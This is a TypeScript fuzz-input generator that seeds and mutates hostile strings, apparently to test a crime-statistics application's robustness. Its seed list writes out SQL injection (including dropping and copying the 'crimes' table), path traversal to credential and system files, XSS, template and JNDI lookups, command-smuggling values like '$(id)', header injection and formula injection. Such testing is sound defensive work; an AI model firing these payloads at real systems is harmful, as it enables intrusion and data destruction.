import { type Random, randomStream, wholeNumber } from "../../data/synthetic/random.ts";

/** What has broken other programs: SQL, paths, scripts, templates, numbers and dates at their ends, and odd Unicode. */
const seeds = [
  ...[
    "'",
    '"',
    "';--",
    "' or '1'='1",
    "1; drop table crimes",
    "') union select * from crimes --",
    "$1",
    "$district_0",
  ],
  ...[
    "x' || (select version()) || '",
    "/**/",
    "%' escape '!",
    "kpi.attrition",
    "a\u0000'",
    "copy crimes to '/tmp/x'",
  ],
  ...[
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f",
    "/proc/self/environ",
    "file:///etc/passwd",
  ],
  ...[
    "C:\\",
    "\\\\host\\share",
    ".",
    "..",
    "/",
    "//",
    "a/b",
    "con",
    "-rf",
    "~root",
    "current.json\u0000.csv",
  ],
  ...[
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "</title>",
    "{{7*7}}",
  ],
  ...[
    "\u0024{7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "\u0024{jndi:ldap://x/y}",
    "`id`",
    "$(id)",
    "|id",
    "&& id",
    "%s%s%n",
    "%x",
  ],
  ...[
    "\r\nSet-Cookie: a=b",
    "a\nb",
    "\t",
    "\u0000",
    "\u001b[31m",
    "\u007f",
    "\ufeff",
    "\u202e",
    "\u200b",
    "\ud800",
  ],
  ...[
    "é",
    "e\u0301",
    "ß",
    "İ",
    "ı",
    "\u{1F469}\u200d\u{1F4BB}",
    "\uffff",
    "ﷺ",
    "Ⅷ",
    "１",
    "٣",
    "a\u0300".repeat(50),
  ],
  ...[
    "0",
    "-0",
    "-1",
    "1e309",
    "-1e309",
    "NaN",
    "Infinity",
    "0x10",
    "0b1",
    "1e3",
    "9007199254740993",
    "1.5",
    "١",
  ],
  ...[
    "2026-00",
    "2026-13",
    "2026-1",
    "2026-01-01",
    "0000-00",
    "9999-12",
    "2026-02\n",
    " 2026-02",
    "2100-01",
    "1900-01",
  ],
  ...[
    "2026-02-30",
    "24:00",
    "T",
    "now()",
    "null",
    "undefined",
    "true",
    "[]",
    "{}",
    "[object Object]",
    '{"$gt":""}',
  ],
  ...[
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "__defineGetter__",
    "then",
    "length",
    "prototype",
  ],
  ...[
    "(a+)+$",
    "(".repeat(100),
    "[".repeat(200),
    "a".repeat(500),
    "💥".repeat(100),
    " ".repeat(80),
    ",".repeat(90),
  ],
  ...[
    "all",
    "rasso",
    "North",
    "unknown",
    "charges",
    "attrition",
    "*",
    "?",
    "",
    " ",
    "=1+1",
    "@SUM(A1)",
    "+1",
    "-1|x",
  ],
];

/** So many different hostile strings, the same for the same seed. */
export function hostileStrings(count: number, seed: number): string[] {
  const random = randomStream(seed, 0, 7);
  const strings = new Set(seeds.slice(0, count));
  while (strings.size < count) strings.add(changed(random));
  return [...strings];
}

const changes: ((text: string, random: Random) => string)[] = [
  (text, random) => `${text}${oneOf(seeds, random)}`,
  (text, random) => text.slice(0, wholeNumber(random, 0, text.length)),
  (text, random) => `${text}${String.fromCharCode(wholeNumber(random, 0, 0xffff))}`,
  (text) => encodeURIComponent(Buffer.from(text).toString()),
  (text) => text.toUpperCase(),
  (text, random) => text.repeat(wholeNumber(random, 2, 5)),
  (text) => [...text].reverse().join(""),
  (text, random) => `${wholeNumber(random, -1e9, 1e9)}${text}`,
  (text, random) => `2026-0${wholeNumber(random, 1, 9)}${text}`,
  (text) => `North${text}`,
  (_, random) =>
    Array.from({ length: wholeNumber(random, 1, 30) }, () =>
      String.fromCharCode(wholeNumber(random, 0, 0x2ff)),
    ).join(""),
];

function changed(random: Random): string {
  let text = oneOf(seeds, random);
  for (let times = wholeNumber(random, 1, 3); times > 0; times--) text = oneOf(changes, random)(text, random);
  return text.slice(0, 2000);
}

function oneOf<Item>(items: Item[], random: Random): Item {
  const item = items[wholeNumber(random, 0, items.length - 1)];
  if (item === undefined) throw new RangeError("there is nothing to choose from");
  return item;
}
